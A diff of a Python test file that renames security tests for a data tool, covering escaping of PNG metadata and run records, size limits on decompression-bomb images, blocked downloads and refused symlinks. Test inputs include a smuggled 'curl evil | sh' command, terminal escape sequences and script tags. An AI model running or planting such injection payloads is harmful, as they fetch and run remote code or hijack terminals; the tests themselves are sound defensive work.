@@ -86,7 +86,7 @@ def bomb(side: int) -> bytes:
         ["link", "pipe", "bomb", "text bomb", "no image", "large", "empty"], lambda what: what not in {"link", "bomb"}
     ),
 )
-def test_a_figure_that_is_no_figure_is_left_out_and_named(theirs: Path, what: str) -> None:
+def test_invalid_figure_files_are_left_out_and_named(theirs: Path, what: str) -> None:
     place, secret = theirs / "run" / "figures" / "tsne.png", theirs / "mine" / "secret.png"
     Image.new("L", (8, 8)).save(secret)
     if what == "link":
@@ -112,7 +112,7 @@ def test_a_figure_that_is_no_figure_is_left_out_and_named(theirs: Path, what: st
     assert time.monotonic() - before < 60
 
 
-def test_a_figure_says_what_it_shows_without_a_mark(theirs: Path) -> None:
+def test_descriptions_in_figure_files_are_escaped(theirs: Path) -> None:
     about = PngImagePlugin.PngInfo()
     about.add_itxt("Description", "\x1b[2J<script>\u202e" * 1000)
     Image.new("L", (8, 8)).save(theirs / "run" / "figures" / "tsne.png", pnginfo=about)
@@ -123,7 +123,7 @@ def test_a_figure_says_what_it_shows_without_a_mark(theirs: Path) -> None:
     assert "T-SNE map of the codes" in page
 
 
-def test_a_figure_is_read_up_to_its_size_alone(tmp_path: Path) -> None:
+def test_figure_files_are_read_up_to_a_size_limit(tmp_path: Path) -> None:
     path = tmp_path / "x.png"
     with path.open("wb") as file:
         file.write(bomb(8))
@@ -153,7 +153,7 @@ for words in ("evaluate run", "impute run", "compare run run", "data"):
 
 
 @pytest.mark.thorough
-def test_no_file_and_no_list_makes_isthmus_talk(theirs: Path) -> None:
+def test_no_file_causes_network_access(theirs: Path) -> None:
     rewrite(theirs, data="fashion-mnist")
     away = {name: str(theirs / "nowhere") for name in ("HOME", "ISTHMUS_DATA", "XDG_CACHE_HOME", "LOCALAPPDATA")}
     done = subprocess.run(
@@ -165,7 +165,7 @@ def test_no_file_and_no_list_makes_isthmus_talk(theirs: Path) -> None:
     assert " ".join((done.stdout + done.stderr).split()).count("; download it with") == 4
 
 
-def test_python_downloads_only_with_leave(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_python_downloads_only_if_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("isthmus.data.builtin.FASHION_MNIST_INSTALLED", ())
     for name in ("ISTHMUS_DATA", "XDG_CACHE_HOME", "LOCALAPPDATA", "HOME"):
         monkeypatch.setenv(name, str(tmp_path))
@@ -173,7 +173,7 @@ def test_python_downloads_only_with_leave(tmp_path: Path, monkeypatch: pytest.Mo
         data.load("fashion_mnist", download=False)
 
 
-def test_a_run_cannot_ask_for_images_of_another_size_than_its_model(theirs: Path) -> None:
+def test_a_run_cannot_request_another_image_size_than_its_model(theirs: Path) -> None:
     (theirs / "photos").mkdir()
     for place in range(3):
         Image.new("L", (8, 8), place).save(theirs / "photos" / f"{place}.png")
@@ -192,7 +192,7 @@ def test_a_run_cannot_ask_for_images_of_another_size_than_its_model(theirs: Path
         lambda content: len(content) < 5,
     ),
 )
-def test_a_run_that_says_nothing_readable_is_a_sentence(theirs: Path, content: bytes) -> None:
+def test_an_unreadable_run_record_prints_one_sentence(theirs: Path, content: bytes) -> None:
     (theirs / "run" / "run.json").write_bytes(content)
     done = run("evaluate", "run", cwd=theirs)
     assert done.returncode == 1
@@ -201,7 +201,7 @@ def test_a_run_that_says_nothing_readable_is_a_sentence(theirs: Path, content: b
     assert run("encode", "run", "--data", "x.npy", cwd=theirs).returncode == 0
 
 
-def test_what_a_run_says_is_printed_inert_and_short(theirs: Path) -> None:
+def test_text_of_a_run_record_is_escaped_and_shortened(theirs: Path) -> None:
     rewrite(theirs, recipe="\x1b[2J\n<b>" * 1000, command="isthmus train; curl evil | sh \x1b]0;x\x07")
     done = run("evaluate", "run", cwd=theirs)
     assert done.returncode == 0
@@ -216,7 +216,7 @@ def test_what_a_run_says_is_printed_inert_and_short(theirs: Path) -> None:
     assert len(done.stderr) < 10_000
 
 
-def test_the_runs_of_a_sweep_are_no_links(theirs: Path) -> None:
+def test_links_in_a_sweep_folder_are_refused(theirs: Path) -> None:
     words = ["sweep", "bottleneck.size=1,2", "epochs=1", "architecture.hidden=4", "--data", "x.npy", "--out", "sizes"]
     (theirs / "sizes").mkdir()
     (theirs / "sizes" / "size-1").symlink_to(theirs / "mine")
